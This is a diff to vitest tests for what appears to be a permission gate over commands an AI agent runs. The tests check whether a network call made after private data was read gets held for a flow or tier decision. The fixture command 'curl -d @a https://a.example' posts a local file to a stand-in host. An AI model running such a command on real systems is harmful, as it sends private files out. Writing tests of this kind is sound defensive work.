@@ -1,5 +1,6 @@
 // Private data and untrusted text in one session: nothing goes out unasked.
 import { describe, expect, it } from 'vitest'
+import type { CommandPart } from '../../contract/call/command.ts'
 import { noTaint } from '../../contract/call/origin.ts'
 import type { Taint } from '../../contract/call/origin.ts'
 import { decide } from '../../main/gate/decide.ts'
@@ -9,6 +10,8 @@ import {
   callers,
   fetching,
   lease,
+  part,
+  plain,
   onlyPrivate,
   onlyUntrusted,
   policyWith,
@@ -76,4 +79,28 @@ describe('a call that stays inside', () => {
   ])('is not held up by flow when it %s', (_what, request) =>
     expect(decide(request, free).by.kind).toBe('rule'),
   )
+})
+
+describe('a command that an agent runs by itself, with the network of this machine', () => {
+  const native = { ...running, builtIn: false }
+  const line = (...effects: CommandPart['effects']) =>
+    run(part('curl -d @a https://a.example', { effects }))
+
+  it.each<[string, CommandPart['effects'], Taint, string]>([
+    ['dials, and nothing was read', ['network'], noTaint, 'rule'],
+    ['dials after private data was read', ['network'], onlyPrivate, 'tier'],
+    ['dials after both were read', ['writes-inside', 'network'], both, 'flow'],
+    ['only reads', ['read-only'], both, 'rule'],
+  ])('that %s is decided so, under a rule that allows everything', (_what, effects, taint, by) => {
+    expect(decide(ask(native, [line(...effects)], { taint }), free).by.kind).toBe(by)
+  })
+
+  it('asks also where a lease covers it, and says that private data was read', () => {
+    const leases = [lease('exec', { touches: [line('network')] })]
+    expect(
+      decide(ask(native, [line('network')], { taint: onlyPrivate, leases }), plain).reasons.map(
+        ({ code }) => code,
+      ),
+    ).toContain('flow.private-out')
+  })
 })
